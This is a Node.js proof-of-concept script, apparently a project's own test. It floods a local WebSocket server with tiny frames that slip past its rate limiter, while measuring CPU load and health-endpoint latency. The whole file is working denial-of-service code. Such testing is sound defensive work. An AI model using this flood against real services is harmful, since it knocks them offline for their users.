// PoC: one anonymous stream client (one upgrade: one request of the rate limit) floods small text frames.
// Frames are not counted by anything: the node parses and unmasks every one on its event loop.
// Measures the node's CPU seconds and the latency of GET /health (served before the rate limiter) meanwhile.
// usage: node test/attack-scripts/ws-frame-flood.mjs <port> <pid> [seconds=10] [frameBytes=1] [op=1]
import net from 'node:net'
import crypto from 'node:crypto'
import fs from 'node:fs'
const [port, pid, secs = '10', size = '1', op = '1'] = process.argv.slice(2)
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024
function frame(opcode, payload) {
  const m = crypto.randomBytes(4)
  return Buffer.concat([
    Buffer.from([0x80 | opcode, 0x80 | payload.length]),
    m,
    Buffer.from(payload.map((b, i) => b ^ m[i % 4])),
  ])
}
const f = frame(Number(op), Buffer.alloc(Number(size), 0x61))
const batch = Buffer.concat(Array(Math.ceil(65536 / f.length)).fill(f))
async function health() {
  const t = performance.now()
  await fetch(`http://127.0.0.1:${port}/health`).then((r) => r.text())
  return performance.now() - t
}
const base = []
for (let i = 0; i < 5; i++) base.push(await health())
console.log('health latency idle (ms):', base.map((x) => x.toFixed(1)).join(' '))
const s = net.connect(Number(port), '127.0.0.1')
s.on('error', (e) => console.log('client error', e.message))
s.write(
  `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
)
await new Promise((r) => s.once('data', r))
s.on('data', () => undefined)
const c0 = cpu()
const t0 = Date.now()
let sent = 0
let stop = false
const pump = () => {
  while (!stop) {
    sent += batch.length
    if (!s.write(batch)) return s.once('drain', pump)
  }
}
pump()
const lat = []
const end = Date.now() + Number(secs) * 1000
while (Date.now() < end) {
  lat.push(await health())
  await new Promise((r) => setTimeout(r, 200))
}
stop = true
const wall = (Date.now() - t0) / 1000
lat.sort((a, b) => a - b)
console.log(
  `sent ${(sent / 1048576).toFixed(0)} MB = ${(sent / f.length / 1e6).toFixed(1)} M frames in ${wall.toFixed(1)} s; node cpu ${(cpu() - c0).toFixed(1)} s (${(((cpu() - c0) / wall) * 100).toFixed(0)}% of a core); RSS ${rss().toFixed(0)} MB`,
)
console.log(
  `health latency under flood (ms): median ${lat[lat.length >> 1].toFixed(1)}, max ${lat.at(-1).toFixed(1)}, n=${lat.length}; socket open: ${!s.destroyed}`,
)
s.destroy()
